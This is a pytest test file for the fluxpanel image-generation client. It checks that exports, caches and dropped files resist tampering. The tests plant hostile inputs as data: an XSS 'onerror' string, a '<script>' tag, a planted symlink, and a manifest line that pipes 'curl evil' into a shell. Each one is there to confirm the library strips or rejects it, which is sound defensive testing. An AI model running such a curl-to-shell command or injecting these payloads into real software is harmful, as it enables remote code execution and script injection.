"""Hostile files and folders: exports from every provider, tampered
manifests and cache entries, a folder with an export or a symlink in it,
payloads with strange fields, deployments told apart by their query string,
and time zones with daylight saving."""

from __future__ import annotations

import copy
import json
import os
import pickle
import time

import pytest

import fluxpanel
from fluxpanel._cache import MAGIC, ResultCache, _pack
from fluxpanel.providers import BlackForestLabs, Fal, FluxAPI, Preview, Replicate
from fluxpanel.testing import FakeBFL, FakeFal, FakeReplicate

from ..conftest import FAST_RETRY, small_image

NON_DEFAULT = {  # a value only that host's table takes
    "bfl": {"safety_tolerance": 0, "width": 1440, "height": 256},
    "replicate": {"aspect_ratio": "16:9"},
    "fal": {"aspect_ratio": "landscape_16_9"},
    "flux-api": {"aspect_ratio": "768x1344"},
    "preview": {"aspect_ratio": "1344x768"},
}


@pytest.fixture(params=list(NON_DEFAULT))
def made(request, server, tmp_path):
    name = request.param
    fakes = {"bfl": FakeBFL, "replicate": FakeReplicate, "fal": FakeFal}
    fake = fakes[name]().start() if name in fakes else None
    if name == "flux-api":
        provider = FluxAPI(api_key=server.api_key, url=server.url)
    elif name == "preview":
        provider = Preview()
    else:
        cls = {"bfl": BlackForestLabs, "replicate": Replicate, "fal": Fal}[name]
        provider = cls(api_key=fake.api_key, base_url=fake.base_url)
        provider.poll_first = 0.01
    with fluxpanel.FluxClient(provider=provider, cache=False, retry=FAST_RETRY) as c:
        gen = c.generate(model="flux_dev", prompt="a fox", seed=11, **NON_DEFAULT[name])
    if fake is not None:
        fake.stop()
    return name, gen, tmp_path


def test_every_export_loads_back_from_every_provider(made):
    name, gen, tmp_path = made
    folder = tmp_path / "export"
    gen.save(folder)
    back = fluxpanel.load(folder)
    assert back.provider == name
    assert back.request == gen.request and back.request.params == gen.request.params
    assert [i.data for i in back.images] == [i.to_bytes() for i in gen.images]
    image = next(folder.glob("flux_dev-*"))
    assert fluxpanel.GenerationRequest.from_image(image) == gen.request
    for twin in (pickle.loads(pickle.dumps(gen.request)), copy.deepcopy(gen.request)):
        assert twin == gen.request and twin.spec is gen.request.spec


def test_created_survives_daylight_saving(server, tmp_path, monkeypatch):
    with fluxpanel.FluxClient(api_key=server.api_key, url=server.url, cache=False) as c:
        gen = c.generate(prompt="x", seed=1)
    gen.created = 1_751_371_200.0  # 2025-07-01 12:00 UTC: summer time in Berlin
    monkeypatch.setenv("TZ", "Europe/Berlin")
    time.tzset()
    try:
        gen.save(tmp_path / "e")
        assert fluxpanel.load(tmp_path / "e").created == gen.created
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


# -- tampering ---------------------------------------------------------------------


def test_a_tampered_manifest_cannot_run_script(client, tmp_path):
    gen = client.generate(prompt="a fox", seed=2)
    folder = tmp_path / "e"
    gen.save(folder)
    path = folder / "manifest.json"
    manifest = json.loads(path.read_text())
    manifest["images"][0]["mime"] = 'x" onerror="alert(document.domain)'
    manifest["code"] = "import os; os.system('curl evil | sh')"
    path.write_text(json.dumps(manifest))
    back = fluxpanel.load(folder)
    assert back.images[0].mime == "image/png"  # from the bytes
    assert "onerror" not in json.dumps(back.images[0]._repr_mimebundle_())
    assert "onerror" not in back._repr_html_()
    assert "os.system" not in back.to_code()
    assert back.to_code() == gen.request.to_code("flux-api")


@pytest.mark.parametrize(
    "header",
    [
        {"images": [{"mime": "image/png", "width": 1, "height": 1, "seed": 1, "index": 0}]},
        [1, 2, 3],
        {"images": "not a list"},
        {"images": [["a list, not an object"]]},
        {
            "images": [
                {"size": 8, "mime": 'x"><script>', "width": "1", "height": 1, "seed": 1, "index": 0}
            ]
        },
    ],
)
def test_a_cache_entry_of_the_wrong_shape_is_a_miss_and_goes(tmp_path, header):
    cache = ResultCache(tmp_path)
    provider = FluxAPI(api_key="k", url="http://127.0.0.1:1/x")
    request = fluxpanel.GenerationRequest(prompt="x", seed=1)
    path = cache._file(cache.key(request, provider))
    path.parent.mkdir(parents=True)
    head = json.dumps(header).encode()
    path.write_bytes(MAGIC + len(head).to_bytes(8, "big") + head + b"\x89PNG\r\n\x1a\n")
    assert cache.get(request, provider) is None
    assert not path.exists()


def test_a_planted_cache_entry_gets_its_type_from_the_bytes(tmp_path):
    cache = ResultCache(tmp_path)
    provider = FluxAPI(api_key="k", url="http://127.0.0.1:1/x")
    request = fluxpanel.GenerationRequest(prompt="x", seed=1)
    png = small_image(request, 0)
    meta = {
        "mime": 'image/x" onerror="alert(1)',
        "width": 32,
        "height": 32,
        "seed": 1,
        "index": 0,
        "size": len(png),
    }
    path = cache._file(cache.key(request, provider))
    path.parent.mkdir(parents=True)
    path.write_bytes(_pack({"images": [meta], "timings": {}, "created": 0}, [png]))
    hit = cache.get(request, provider)
    assert hit.images[0].mime == "image/png"
    assert "onerror" not in hit._repr_html_()


# -- never overwrite, never through a symlink -------------------------------------------


def test_saving_twice_into_one_folder_never_overwrites(client, tmp_path):
    first = client.generate(prompt="first", seed=5)
    second = client.generate(prompt="second", seed=5)  # same model and seed: same file names
    folder = tmp_path / "e"
    first.save(folder)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    with pytest.raises(fluxpanel.ExportExistsError, match="never overwrites"):
        second.save(folder)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
    assert fluxpanel.load(folder).request == first.request


def test_a_planted_symlink_is_never_written_through(client, tmp_path):
    gen = client.generate(prompt="x", seed=6)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    folder = tmp_path / "e"
    folder.mkdir()
    os.symlink(victim, folder / gen.images[0].default_name())
    with pytest.raises(fluxpanel.ExportExistsError):
        gen.save(folder)
    assert victim.read_text() == "precious"
    os.symlink(victim, folder / "manifest-link")
    gen.images[0].save(folder / "manifest-link.png")  # an explicit path: written
    link = tmp_path / "link.png"
    os.symlink(victim, link)
    gen.images[0].save(link)  # replaces the link, not what it points at
    assert victim.read_text() == "precious" and not link.is_symlink()
    assert not [p for p in folder.iterdir() if p.name.startswith(".fluxpanel-")]


@pytest.mark.anyio
async def test_the_panel_saves_into_a_fresh_folder_each_time(server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    client = fluxpanel.AsyncFluxClient(api_key=server.api_key, url=server.url, cache=False)
    panel = fluxpanel.FluxPanel(client=client, prompt="x", seed=3)
    await panel.agenerate()
    a, b = panel.save(), panel.save()
    assert a != b and fluxpanel.load(a).request == fluxpanel.load(b).request


# -- payloads with hostile field names -----------------------------------------------------


@pytest.mark.parametrize("field", ["models", "self", "cls", "__class__"])
def test_a_payload_field_that_is_an_argument_name(field):
    payload = {"model": "flux_dev", "prompt": "x", field: 1}
    with pytest.raises(fluxpanel.ValidationError) as e:
        fluxpanel.GenerationRequest.from_payload(payload)
    assert e.value.field == field and repr(field) in str(e.value)


def test_such_a_field_in_image_metadata(client, tmp_path):
    from fluxpanel._metadata import embed

    gen = client.generate(prompt="x", seed=1)
    doc = {"request": {"model": "flux_dev", "prompt": "x", "models": {}}, "provider": "flux-api"}
    path = tmp_path / "crafted.png"
    path.write_bytes(embed(gen.images[0].data, {"fluxpanel": json.dumps(doc)}))
    with pytest.raises(fluxpanel.ValidationError, match="'models'"):
        fluxpanel.GenerationRequest.from_image(path)


def test_such_a_field_dropped_on_the_panel_is_shown(server):
    client = fluxpanel.AsyncFluxClient(api_key=server.api_key, url=server.url, cache=False)
    panel = fluxpanel.FluxPanel(client=client, prompt="before")
    panel._handle(
        {
            "type": "dropped",
            "name": "crafted.png",
            "request": {"model": "flux_dev", "prompt": "x", "self": 1},
        }
    )
    assert panel.status == "error" and "'self'" in panel.error["message"]
    assert panel.prompt == "before"


# -- deployments told apart by their query string -------------------------------------------


def test_deployments_in_the_query_string_have_their_own_cache_and_snippet(server, tmp_path):
    outputs = {}
    for deployment in ("a", "b"):
        url = f"{server.url}?deployment={deployment}"
        with fluxpanel.FluxClient(api_key=server.api_key, url=url, cache=tmp_path) as c:
            gen = c.generate(prompt="x", seed=1)
        outputs[deployment] = gen
        assert f"deployment={deployment}" in gen.to_code()
        assert gen.endpoint.endswith(f"?deployment={deployment}")
    assert not outputs["b"].cached  # a's result is not b's
    assert len(server.posts) == 2
    assert [r.path for r in server.posts] == [
        "/v1/generate?deployment=a",
        "/v1/generate?deployment=b",
    ]
